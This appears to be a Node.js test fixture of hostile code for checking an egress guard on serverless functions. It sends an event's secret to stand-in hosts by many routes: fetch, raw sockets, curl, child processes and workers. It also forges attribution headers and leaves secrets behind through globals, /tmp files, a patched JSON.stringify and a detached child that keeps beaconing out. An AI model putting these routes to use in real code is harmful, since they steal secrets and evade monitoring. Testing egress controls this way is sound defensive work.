// Hostile code of Node: ways in which what an event brought is carried to a host. Each gets (host, text).
"use strict";

const { execFileSync } = require("node:child_process");
const http = require("node:http");
const net = require("node:net");
const { Worker } = require("node:worker_threads");

const path = (text) => `/?${encodeURIComponent(text)}`;

function written(host, text, connect) {
  return new Promise((resolve, reject) => {
    const socket = connect(() => socket.write(`GET ${path(text)} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`));
    socket.on("data", () => {}).on("close", resolve).on("error", reject);
  });
}

function worker(host, text) {
  const program = `fetch("http://${host}${path(text)}").then((r) => process.exit(0), () => process.exit(1))`;
  return new Promise((resolve) => new Worker(program, { eval: true }).on("exit", resolve));
}

const ways = {
  fetch: (host, text) => fetch(`http://${host}${path(text)}`),
  client: (host, text) =>
    new Promise((resolve, reject) => http.get(`http://${host}${path(text)}`, (r) => r.resume().on("end", resolve)).on("error", reject)),
  "client without the evidence": (host, text) =>
    new Promise((resolve) => new http.ClientRequest(`http://${host}${path(text)}`, resolve).on("error", resolve).end()),
  "evidence of another": (host, text) => fetch(`http://${host}${path(text)}`, { headers: { "x-valve-source": "/var/task/kept.js:1", "x-valve-refused": "r-0" } }),
  socket: (host, text) => written(host, text, (then) => net.connect(80, host, then)),
  "socket to an address": (host, text) => written(host, text, (then) => net.connect(80, "203.0.113.9", then)),
  "name of another in the head": (host, text) => written(host, text, (then) => net.connect(80, "kept.test", then)),
  child: (host, text) => execFileSync(process.execPath, ["-e", `fetch("http://${host}${path(text)}")`], { env: {} }),
  "child that is no Node": (host, text) => execFileSync("curl", ["-s", `http://${host}${path(text)}`]),
  worker,
};

exports.ways = Object.keys(ways);

exports.handler = async (event) => {
  try {
    await ways[event.way](event.host, `${event.way}:${event.secret}`);
    return "sent";
  } catch (error) {
    return String(error.message).slice(0, 200);
  }
};

// What is left behind by one event, and found by the next.

const fs = require("node:fs");

const leave = {
  "a variable": (kept) => (globalThis.kept = kept),
  "a file": (kept) => fs.writeFileSync("/tmp/kept", kept),
  "a module's own state": (kept) => (require("node:module")._kept = kept),
  "a client that was changed": (kept) => {
    const { stringify } = JSON;
    JSON.stringify = (...given) => stringify(...given)?.replace("nothing", `nothing ${kept}`);
  },
  "a loop that goes on": (kept) => setInterval(() => fetch(`http://open.test${path(kept)}`).catch(() => {}), 5),
  "a child that goes on": (kept) => {
    const program = `setInterval(() => fetch("http://open.test${path(kept)}").catch(() => {}), 5); console.log("on")`;
    const child = require("node:child_process").spawn(process.execPath, ["-e", program], { detached: true });
    return new Promise((resolve) => child.stdout.once("data", resolve));
  },
};

const find = {
  "a variable": () => globalThis.kept,
  "a file": () => fs.existsSync("/tmp/kept") && fs.readFileSync("/tmp/kept", "utf8"),
  "a module's own state": () => require("node:module")._kept,
  "a client that was changed": () => JSON.stringify("nothing"),
};

exports.left = Object.keys(leave);

exports.residue = async (event) => {
  if (event.secret) {
    await leave[event.way](event.secret);
    return "left";
  }
  const found = String(find[event.way]?.() ?? "");
  await new Promise((resolve) => setTimeout(resolve, 100));
  await fetch(`http://open.test${path(`found by ${event.way}: ${found}`)}`);
  return "looked";
};
